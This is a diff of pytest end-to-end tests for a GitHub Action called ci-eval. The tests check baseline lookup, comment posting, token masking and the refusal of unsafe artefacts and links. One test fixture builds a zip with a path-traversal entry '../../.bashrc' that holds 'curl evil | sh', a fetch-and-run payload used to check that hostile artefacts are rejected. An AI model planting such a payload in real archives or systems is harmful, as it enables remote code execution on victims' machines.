@@ -1,283 +1,53 @@
 """`ci-eval action` end to end: a real process with a real event payload, real
 GITHUB_OUTPUT and GITHUB_STEP_SUMMARY files, a small project whose retriever is a Python
-callable, and the loopback GitHub of github_standin.py, which validates every request and
+callable, and the loopback GitHub of tests/support/github_standin/, which validates every request and
 response against GitHub's OpenAPI description. Baselines are real artefacts (`ci-eval run`
 or a push job of the action itself), zipped the way upload-artifact zips them."""
 
 from __future__ import annotations
 
 import json
-import os
-import subprocess
-import sys
 from dataclasses import dataclass
-from datetime import datetime, timedelta, timezone
-from pathlib import Path
+from datetime import timedelta
 
 import pytest
+from action_harness import (
+    ANSWERABLE,
+    BASE,
+    COMMENTS,
+    COMPARED,
+    CONFIG,
+    FORK,
+    FORK_HEAD,
+    FORK_PR,
+    GOLD,
+    HEAD,
+    MARKER,
+    NEWER,
+    OLDER,
+    PR,
+    REPO,
+    RUNS,
+    STRICT_HIT,
+    THREE_DAYS,
+    TWO_HOURS,
+    Job,
+    add_push_run,
+    artefact_with_sha,
+    baseline_line,
+    bodies,
+    calls,
+    line_of,
+    pr_event,
+    push_event,
+    run_action,
+    run_url,
+    verdict_line,
+    workflow_run_event,
+)
 from github_standin import GitHubStandIn, fake_sha
 
 from ci_eval.github.artifact_zip import build_zip
-
-TESTS = Path(__file__).resolve().parent
-REPO_ROOT = TESTS.parent
-REPO = "acme/rag-app"
-FORK = "someone/rag-app"
-PREFIX = f"/repos/{REPO}"
-MARKER = "<!-- ci-eval:report -->"
-WORKFLOW_REF = f"{REPO}/.github/workflows/ci-eval.yml@refs/heads/main"
-RUNS = "/actions/workflows/ci-eval.yml/runs"
-COMMENTS = "/issues/7/comments"
-BASE = fake_sha("base")  # the PR's base commit
-HEAD = fake_sha("head")  # the PR's head commit
-MERGE = fake_sha("merge")  # GITHUB_SHA of a pull_request job: a merge commit nobody knows
-OLDER = fake_sha("older")  # an older commit of main
-NEWER = fake_sha("newer")  # a newer commit of main, not the PR's base
-PR = 7
-FORK_PR = 8
-FORK_HEAD = fake_sha("fork-head")
-TWO_HOURS = timedelta(hours=2, minutes=10)
-THREE_DAYS = timedelta(days=3, hours=1)
-
-GOLD = {
-    "schema_version": 1,
-    "index_version": "idx-2",
-    "questions": [
-        {"id": "q1", "question": "alpha please", "gold": ["alpha"], "tags": ["greek"]},
-        # "retired" is not in the index (fake_retrievers.manifest): a stale gold id.
-        {"id": "q2", "question": "beta please", "gold": {"beta": 2, "retired": 1}},
-        {"id": "q3", "question": "gamma please", "gold": ["gamma"], "tags": ["greek"]},
-        {"id": "q4", "question": "nothing about omega", "gold": [], "unanswerable": True},
-        # enough comparable questions for a comparison (core/diff_goldset.py MIN_SHARED)
-        {"id": "q6", "question": "delta please", "gold": ["delta"]},
-        {"id": "q7", "question": "epsilon please", "gold": ["epsilon"]},
-        {"id": "q8", "question": "alpha again", "gold": ["alpha"]},
-        {"id": "q9", "question": "gamma again", "gold": ["gamma"], "tags": ["greek"]},
-    ],
-}
-# The lexical retriever answers "zeta" with alpha: a miss, so hit@1 is 3/4 under this gold set.
-STRICT_GOLD = dict(
-    GOLD, questions=[*GOLD["questions"], {"id": "q5", "question": "zeta please", "gold": ["gamma"]}]
-)
-ANSWERABLE = [q for q in GOLD["questions"] if not q.get("unanswerable")]
-# Compared with a baseline: answerable, and no gold id missing from the index ("retired").
-COMPARED = [q for q in ANSWERABLE if "retired" not in q["gold"]]
-# Under the strict gold set the one "zeta" question misses: hit@1 over its answerable ones.
-STRICT_HIT = (len(ANSWERABLE) + 1 - 1) / (len(ANSWERABLE) + 1)
-CONFIG = """gold_set = "{gold}"
-k = 1
-abstain_below = 0.9
-{gate}
-[retriever]
-type = "python"
-target = "fake_retrievers:lexical"
-
-[index]
-callable = "fake_retrievers:manifest"
-"""
-
-
-# -- the checkout, the baseline and one job's environment ----------------------------------
-
-
-def clean_environ() -> dict[str, str]:
-    """This process's environment without what a CI runner set for its own job."""
-    drop = ("GITHUB_", "INPUT_", "RUNNER_", "CI_EVAL_", "ACTIONS_")
-    env = {k: v for k, v in os.environ.items() if not k.startswith(drop)}
-    for proxy in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
-        env.pop(proxy, None)
-    env["NO_PROXY"] = env["no_proxy"] = "127.0.0.1,localhost"
-    env["PYTHONPATH"] = os.pathsep.join([str(TESTS), str(REPO_ROOT)])
-    return env
-
-
-@pytest.fixture(scope="module")
-def checkout(tmp_path_factory) -> Path:
-    """The job's working directory: a gold set, a passing config and a strict one."""
-    root = tmp_path_factory.mktemp("checkout")
-    (root / "eval").mkdir()
-    (root / "eval" / "gold.json").write_text(json.dumps(GOLD, indent=2) + "\n")
-    (root / "eval" / "strict-gold.json").write_text(json.dumps(STRICT_GOLD, indent=2) + "\n")
-    (root / "ci-eval.toml").write_text(CONFIG.format(gold="eval/gold.json", gate=""))
-    (root / "strict.toml").write_text(
-        CONFIG.format(gold="eval/strict-gold.json", gate='[gate]\nmin = { "hit@1" = 0.9 }\n')
-    )
-    return root
-
-
-@pytest.fixture(scope="module")
-def base_artefact(checkout, tmp_path_factory) -> bytes:
-    """What `ci-eval run` wrote for the base commit."""
-    out = tmp_path_factory.mktemp("base") / "ci-eval-run.json"
-    env = {**clean_environ(), "GITHUB_SHA": BASE, "GITHUB_REF": "refs/heads/main"}
-    done = subprocess.run(
-        [sys.executable, "-m", "ci_eval", "run", "--out", str(out), "--quiet"],
-        cwd=checkout, env=env, capture_output=True, text=True, timeout=120, check=False,
-    )
-    assert done.returncode == 0, done.stderr
-    return out.read_bytes()
-
-
-@pytest.fixture(scope="module")
-def base_zip(base_artefact) -> bytes:
-    return build_zip({"ci-eval-run.json": base_artefact})
-
-
-def artefact_with_sha(artefact: bytes, sha: str) -> bytes:
-    data = json.loads(artefact)
-    data["git"]["sha"] = sha
-    return json.dumps(data, sort_keys=True).encode()
-
-
-@pytest.fixture
-def gh():
-    with GitHubStandIn(REPO) as server:
-        server.add_pull(PR, head_sha=HEAD, base_sha=BASE)
-        yield server
-        # Every request the action made, and every answer, matched GitHub's description;
-        # the blob host never saw the token.
-        server.assert_clean()
-
-
-def pr_event(number=PR, head_sha=HEAD, base_sha=BASE, head_repo=REPO) -> dict:
-    return {
-        "action": "synchronize",
-        "number": number,
-        "pull_request": {
-            "number": number,
-            "head": {"sha": head_sha, "ref": "feature", "repo": {"full_name": head_repo}},
-            "base": {"sha": base_sha, "ref": "main", "repo": {"full_name": REPO}},
-        },
-        "repository": {"full_name": REPO, "default_branch": "main"},
-    }
-
-
-def push_event(sha: str) -> dict:
-    return {"ref": "refs/heads/main", "after": sha, "before": OLDER,
-            "repository": {"full_name": REPO, "default_branch": "main"}}
-
-
-def workflow_run_event(run_id: int, head_sha: str = FORK_HEAD) -> dict:
-    return {
-        "action": "completed",
-        "workflow_run": {"id": run_id, "head_sha": head_sha, "event": "pull_request",
-                         "path": ".github/workflows/ci-eval.yml",
-                         "head_repository": {"full_name": FORK}},
-        "repository": {"full_name": REPO, "default_branch": "main"},
-    }
-
-
-@dataclass
-class Job:
-    code: int
-    stdout: str
-    stderr: str
-    outputs: dict[str, str]
-    summary: str
-    bundle: Path  # what upload-artifact uploads: RUNNER_TEMP/ci-eval
-
-    def bundle_zip(self) -> bytes:
-        return build_zip({p.name: p.read_bytes() for p in sorted(self.bundle.iterdir())})
-
-    def annotations(self) -> list[str]:
-        return [line for line in self.stdout.splitlines() if line.startswith("::warning")]
-
-
-def parse_outputs(text: str) -> dict[str, str]:
-    """GITHUB_OUTPUT as the runner reads it: ``name<<DELIM``, the value's lines, ``DELIM``."""
-    outputs: dict[str, str] = {}
-    lines = text.split("\n")
-    i = 0
-    while i < len(lines):
-        if lines[i]:
-            name, sep, delimiter = lines[i].partition("<<")
-            assert sep and delimiter, f"not a multiline output: {lines[i]!r}"
-            end = lines.index(delimiter, i + 1)
-            assert name not in outputs, f"output {name} set twice"
-            outputs[name] = "\n".join(lines[i + 1:end])
-            i = end
-        i += 1
-    return outputs
-
-
-def run_action(gh: GitHubStandIn, tmp_path: Path, cwd: Path, event_name: str,
-               payload: dict | None, *, sha: str = MERGE, ref: str = f"refs/pull/{PR}/merge",
-               config: str = "ci-eval.toml", python: str = sys.executable, environ: dict | None = None,
-               **inputs: str) -> Job:
-    """One `ci-eval action` step. ``inputs`` are action inputs: ``comment="off"``. ``python``
-    and ``environ``: the interpreter that runs it and the job's environment (default: this
-    interpreter and the checkout's ci_eval)."""
-    job = tmp_path / f"job{len(list(tmp_path.glob('job*')))}"
-    (job / "temp").mkdir(parents=True)
-    (job / "output").touch()
-    (job / "summary.md").touch()
-    env = clean_environ() if environ is None else dict(environ)
-    if payload is not None:
-        (job / "event.json").write_text(json.dumps(payload))
-        env["GITHUB_EVENT_PATH"] = str(job / "event.json")
-    env.update({
-        "GITHUB_ACTIONS": "true",
-        "GITHUB_API_URL": gh.api_url,
-        "GITHUB_REPOSITORY": REPO,
-        "GITHUB_EVENT_NAME": event_name,
-        "GITHUB_SHA": sha,
-        "GITHUB_REF": ref,
-        "GITHUB_WORKFLOW_REF": WORKFLOW_REF,
-        "GITHUB_RUN_ID": "990001",
-        "GITHUB_OUTPUT": str(job / "output"),
-        "GITHUB_STEP_SUMMARY": str(job / "summary.md"),
-        "RUNNER_TEMP": str(job / "temp"),
-        "INPUT_GITHUB-TOKEN": gh.token,
-        "INPUT_CONFIG": config,
-        "CI_EVAL_RETRY_BACKOFF": "0.01",
-    })
-    for name, value in inputs.items():
-        env["INPUT_" + name.upper().replace("_", "-")] = value
-    done = subprocess.run([python, "-m", "ci_eval", "action"], cwd=cwd, env=env,
-                          capture_output=True, text=True, timeout=120, check=False)
-    token = env["INPUT_GITHUB-TOKEN"]
-    # The token reaches the log once, in the line that tells the runner to mask it.
-    assert [line for line in done.stdout.splitlines() if token in line] in (
-        [], [f"::add-mask::{token}"])
-    assert token not in done.stderr
-    return Job(done.returncode, done.stdout, done.stderr,
-               parse_outputs((job / "output").read_text()), (job / "summary.md").read_text(),
-               job / "temp" / "ci-eval")
-
-
-def calls(gh: GitHubStandIn) -> list[tuple[str, str]]:
-    """The API requests in order, the repository prefix cut off."""
-    return [(r.method, r.path.removeprefix(PREFIX)) for r in gh.requests]
-
-
-def bodies(gh: GitHubStandIn, number: int = PR) -> list[str]:
-    return [c["body"] for c in gh.comments_on(number)]
-
-
-def baseline_line(markdown: str) -> str:
-    return next(line for line in markdown.splitlines() if line.startswith("**Baseline:**"))
-
-
-def verdict_line(markdown: str) -> str:
-    return next(line for line in markdown.splitlines() if line.startswith("### "))
-
-
-def add_push_run(gh: GitHubStandIn, sha: str, artifact: bytes | None, age: timedelta,
-                 **options) -> tuple[int, int | None]:
-    """A push run of main ``age`` ago (ages are read against the real clock), with an artifact."""
-    run_id = gh.add_run(sha, created_at=datetime.now(timezone.utc) - age, **options)
-    artifact_id = gh.add_artifact(run_id, artifact) if artifact is not None else None
-    return run_id, artifact_id
-
-
-def run_url(run_id: int) -> str:
-    return f"https://github.com/{REPO}/actions/runs/{run_id}"
-
-
-def line_of(gold: dict, qid: str) -> int:
-    text = json.dumps(gold, indent=2)
-    return next(n for n, line in enumerate(text.splitlines(), 1) if f'"id": "{qid}"' in line)
-
 
 # -- pull_request: finding the baseline ----------------------------------------------------
 
@@ -380,11 +150,11 @@ def test_fallback_baseline_names_its_commit_and_age(gh, checkout, tmp_path, base
 def test_expired_and_vanished_artefacts_are_skipped(gh, checkout, tmp_path, base_zip):
     # The base commit's artifact is listed as live but is gone by the time it is fetched.
     exact, vanished = add_push_run(gh, BASE, base_zip, TWO_HOURS)
-    gh.state.artifacts[vanished]["expired"] = True
+    gh.change_artifact(vanished, expired=True)
     gh.mutate_next("actions/list-workflow-run-artifacts", lambda listing: {
         **listing, "artifacts": [{**a, "expired": False} for a in listing["artifacts"]]})
     newer, expired = add_push_run(gh, NEWER, base_zip, timedelta(days=1, hours=1))
-    gh.state.artifacts[expired]["expired"] = True
+    gh.change_artifact(expired, expired=True)
     older, live = add_push_run(gh, OLDER, base_zip, THREE_DAYS)
 
     job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
@@ -412,7 +182,7 @@ def test_hostile_and_oversized_baselines_are_skipped_with_a_warning(gh, checkout
     hostile = build_zip({"ci-eval-run.json": base_artefact, "../../.bashrc": b"curl evil | sh"})
     exact, bad = add_push_run(gh, BASE, hostile, TWO_HOURS)
     newer, huge = add_push_run(gh, NEWER, base_zip, timedelta(days=1))
-    gh.state.artifacts[huge]["size"] = 80 * 1024 * 1024  # as listed: not worth downloading
+    gh.change_artifact(huge, listed_size=80 * 1024 * 1024)  # not worth downloading
     _, good = add_push_run(gh, OLDER, base_zip, THREE_DAYS)
 
     job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
@@ -583,7 +353,7 @@ def test_duplicate_sticky_comments_are_consolidated(gh, checkout, tmp_path):
 ])
 def test_a_read_only_token_still_evaluates_and_the_gate_alone_sets_the_exit_code(
         gh, checkout, tmp_path, config, code, verdict):
-    gh.read_only = True  # no `pull-requests: write`: every write answers 403
+    gh.refuse_writes()  # no `pull-requests: write`: every write answers 403
 
     job = run_action(gh, tmp_path, checkout, "pull_request", pr_event(), config=config)
 
@@ -671,7 +441,7 @@ def test_pagination_finds_the_base_run_and_our_comment_on_later_pages(gh, checko
     assert ("GET", f"/actions/artifacts/{artifact}/zip") in calls(gh)
     assert calls(gh)[-1] == ("PATCH", f"/issues/comments/{ours}")
     assert ("POST", COMMENTS) not in calls(gh)
-    body = gh.state.comments[ours]["body"]
+    body = gh.comment(ours)["body"]
     assert baseline_line(body).startswith(
         f"**Baseline:** the push run of base commit {BASE[:7]} on main (3 days old)")
 
@@ -736,7 +506,7 @@ class ForkJob:
 def fork_job(checkout, base_zip, tmp_path_factory) -> ForkJob:
     """A fork's pull_request job: a read-only token, so it comments nothing itself."""
     with GitHubStandIn(REPO) as server:
-        server.read_only = True
+        server.refuse_writes()
         server.add_pull(FORK_PR, head_sha=FORK_HEAD, base_sha=BASE, head_repo=FORK)
         add_push_run(server, BASE, base_zip, TWO_HOURS)
         job = run_action(server, tmp_path_factory.mktemp("fork"), checkout, "pull_request",
@@ -943,10 +713,10 @@ def test_pull_request_target_is_refused(gh, checkout, tmp_path):
 
 def test_the_poster_posts_for_a_same_repository_pr_whose_run_could_not(gh, checkout, tmp_path):
     # A same-repository PR with a read-only token (Dependabot's, say): its run cannot comment.
-    gh.read_only = True
+    gh.refuse_writes()
     pr_job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
     assert json.loads((pr_job.bundle / "pr.json").read_text())["comment_posted"] is False
-    gh.read_only = False
+    gh.refuse_writes(False)
     run_id = gh.add_run(HEAD, head_branch="feature", event="pull_request", conclusion="success")
     gh.add_artifact(run_id, pr_job.bundle_zip())
     gh.requests.clear()
@@ -1080,7 +850,7 @@ def test_a_link_to_another_host_is_refused_and_the_run_still_writes_everything(
             add_push_run(gh, fake_sha(f"main-{i}"), None, timedelta(minutes=i))
         else:
             gh.add_comment(PR, f"review comment {i}", user_login="octo-dev")
-    gh.link_base = gh.blob_url  # another host: it would receive the token
+    gh.link_pages_to(gh.blob_url)  # another host: it would receive the token
 
     job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
 
